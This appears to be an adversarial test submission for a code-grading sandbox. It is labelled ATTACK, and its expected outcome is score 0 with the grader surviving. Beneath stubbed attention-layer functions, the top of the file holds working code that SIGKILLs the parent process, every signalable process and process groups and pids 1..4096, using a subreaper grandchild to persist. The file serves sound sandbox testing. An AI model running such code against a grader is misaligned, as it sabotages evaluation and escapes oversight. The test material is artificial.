# ATTACK: kills the grader from inside, every way a process of the grader's own user could: SIGKILL to its parent (os.getppid()), kill(-1, SIGKILL) (every process it may signal), killpg of its own and of every process group 1..4096, SIGKILL through pidfd_open/pidfd_send_signal to pids 1..4096, and prctl(PR_SET_CHILD_SUBREAPER) with a grandchild that repeats all of it after its parent died; then defines stubs.
# HONEST: 0
# EXPECT: the sandbox is the first process of its own PID namespace: it sees and can signal only its own processes; the grader, the zygote and other sandboxes carry on and the report is written; score 0; grader exit status 0.
import ctypes
import os
import signal

_libc = ctypes.CDLL(None, use_errno=True)
_SYS_PIDFD_OPEN, _SYS_PIDFD_SEND_SIGNAL = 434, 424


def _everything():
    me = os.getpid()
    for target in (os.getppid(), -1):
        try:
            if target:
                os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    for group in range(1, 4097):
        if group != os.getpgrp():
            try:
                os.killpg(group, signal.SIGKILL)
            except OSError:
                pass
    for pid in range(1, 4097):
        if pid == me:
            continue
        fd = _libc.syscall(_SYS_PIDFD_OPEN, pid, 0)
        if fd >= 0:
            _libc.syscall(_SYS_PIDFD_SEND_SIGNAL, fd, signal.SIGKILL, None, 0)
            os.close(fd)


if os.fork() == 0:
    _libc.prctl(36, 1, 0, 0, 0)                      # PR_SET_CHILD_SUBREAPER
    if os.fork() == 0:
        _everything()
        os._exit(0)
    _everything()
    os._exit(0)
try:
    os.wait()
except OSError:
    pass


def _stub(*args, **kwargs):
    raise NotImplementedError


head_weight_shape = project = project_heads = split_heads = concat_heads = _stub
masked_softmax = attention_pool = _stub


class MultiHeadAttention:
    def __init__(self, *args, **kwargs):
        raise NotImplementedError
